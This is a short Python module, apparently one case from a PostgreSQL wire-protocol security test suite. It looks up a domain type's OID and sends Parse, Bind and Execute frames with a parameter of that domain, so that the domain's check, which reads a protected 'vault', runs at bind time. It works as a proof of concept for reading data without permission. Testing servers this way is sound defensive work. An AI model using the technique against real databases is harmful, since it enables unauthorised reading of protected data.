"""Declares a parameter to be of a domain whose check reads the vault: Bind makes the value."""

from attacks.frames import SYNC, ask, bind, execute, parse
from attacks.talking import Server

WANTS = "read"


def attack(server: Server) -> bytes:
    with server.connect() as connection:
        found = connection.execute("SELECT 'account_id'::regtype::oid").fetchone()
    assert found is not None
    with server.login() as client:
        declared = parse(b"SELECT 1 WHERE $1 IS NULL", types=[int(str(found[0]))])
        return ask(client, declared, bind(values=[b"999"]), execute(), SYNC)
